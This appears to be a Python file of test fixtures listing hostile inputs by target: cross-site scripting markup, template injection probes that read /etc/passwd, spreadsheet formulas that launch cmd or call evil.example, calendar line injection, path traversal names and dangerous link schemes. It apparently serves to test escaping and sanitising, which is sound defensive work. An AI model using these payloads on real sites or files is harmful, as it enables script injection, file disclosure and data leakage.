"""Pieces of text that do harm where text is taken for something else, by what they attack."""

SCRIPT = """
<script>fired()</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>fired()</scr</script>ipt>
</script><script>fired()</script>
</title><script>fired()</script>
</textarea><script>fired()</script>
--><script>fired()</script>
]]><script>fired()</script>
<img src=x onerror=fired()>
<img src=`x` onerror=fired()>
<img/src=x/onerror=fired()>
<IMG SRC=javascript:fired()>
<svg onload=fired()>
<svg><script>fired()</script></svg>
<svg><animate onbegin=fired() attributeName=x dur=1s>
<svg><a xlink:href="javascript:fired()"><text y=20>x</text></a></svg>
<math><mi xlink:href="javascript:fired()">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=fired()></style></mglyph></table></mtext></math>
<svg></p><style><a id="</style><img src=1 onerror=fired()>">
<noscript><p title="</noscript><img src=x onerror=fired()>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=fired()>
<a href="javascript:fired()">x</a>
<a href="jav&#x09;ascript:fired()">x</a>
<a href="&#106;avascript:fired()">x</a>
<a href=" javascript:fired()">x</a>
<a href="data:text/html,<script>fired()</script>">x</a>
<a href="vbscript:fired()">x</a>
<a href="//evil.example/">x</a>
<iframe src="javascript:fired()"></iframe>
<iframe srcdoc="<script>fired()</script>"></iframe>
<object data="javascript:fired()"></object>
<embed src="javascript:fired()">
<body onload=fired()>
<input autofocus onfocus=fired()>
<details open ontoggle=fired()>
<video><source onerror=fired()></video>
<audio src=x onerror=fired()>
<marquee onstart=fired()>
<select autofocus onfocus=fired()>
<style>@import "//evil.example/x.css";</style>
<style>*{background:url(//evil.example/x)}</style>
<div style="background:url(//evil.example/x)">x</div>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/>
<base href="//evil.example/">
<meta http-equiv=refresh content="0;url=//evil.example/">
<form action="//evil.example/"><button>x</button></form>
<isindex action=javascript:fired() type=image>
<img src="//evil.example/track.gif">
<a ping="//evil.example/" href="/">x</a>
<table background="//evil.example/x"><tr><td>x</td></tr></table>
" onmouseover="fired()
' onmouseover='fired()
" autofocus onfocus="fired()" x="
`onerror=fired()`
\u2028fired()//
<\x00script>fired()</script>
\uff1cscript\uff1efired()\uff1c/script\uff1e
<!--<img src="--><img src=x onerror=fired()>">
<![CDATA[<script>fired()</script>]]>
<?php fired() ?>
<% fired() %>
&lt;script&gt;fired()&lt;/script&gt;
&#60;script&#62;fired()&#60;/script&#62;
""".strip().split("\n")
"""Markup and attributes that run script or load from elsewhere in a page that takes text for markup."""

TEMPLATE = """
{{ 7 * 7777777 }}
{{ config }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{% include "/etc/passwd" %}
{% raw %}x{% endraw %}
{attach}../secret.txt
{static}/../../secret.txt
{filename}../../secret.md
|filename|secret.md
${7*7777777}
#{7*7777777}
<%= 7 * 7777777 %>
.. include:: /etc/passwd
.. raw:: html
!include secret.txt
{{#with}}{{/with}}
%(name)s %s %d {0} {x}
""".strip().split("\n")
"""Words that run or read files in something that takes text for a template."""

FORMULA = """
=HYPERLINK("http://evil.example/","x")
=cmd|' /C calc'!A0
+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
\uff1dHYPERLINK("http://evil.example/")
\uff0bcmd|' /C calc'!A0
\uff0dcmd|' /C calc'!A0
\uff20SUM(1)
\t=1+1
 =1+1
=IMPORTXML("http://evil.example/","//a")
=WEBSERVICE("http://evil.example/")
""".strip("\n").split("\n")
"""Cells that a spreadsheet takes for a formula."""

CALENDAR = """
x\\nATTENDEE:mailto:a@evil.example
x\u2028ATTENDEE:mailto:a@evil.example
x\u2029END:VEVENT
x\u0085BEGIN:VALARM
x;y,z\\
END:VCALENDAR
""".strip("\n").split("\n")
"""Words that end a line or a value of a calendar."""

PATH = """
../../../../escaped
..\\..\\escaped
/etc/escaped
C:\\escaped
index.html
../index
con
aux.txt
.htaccess
..
a/../../b
%2e%2e%2fescaped
~root
-rf
a\u0000b
\u202egnp.exe
\uff0e\uff0e/escaped
""".strip("\n").split("\n")
"""Names that lead out of a folder, are special to a system, or take the place of another page."""

LINK = """
javascript:fired()
JaVaScRiPt:fired()
 javascript:fired()
java\tscript:fired()
data:text/html,<script>fired()</script>
vbscript:fired()
file:///etc/passwd
//evil.example/
http://evil.example/"onmouseover="fired()
https://a.example/?x=<script>fired()</script>
http://user:pass@evil.example/
ftp://evil.example/
mailto:a@evil.example
\u0001javascript:fired()
""".strip("\n").split("\n")
"""Addresses that are no addresses of articles."""
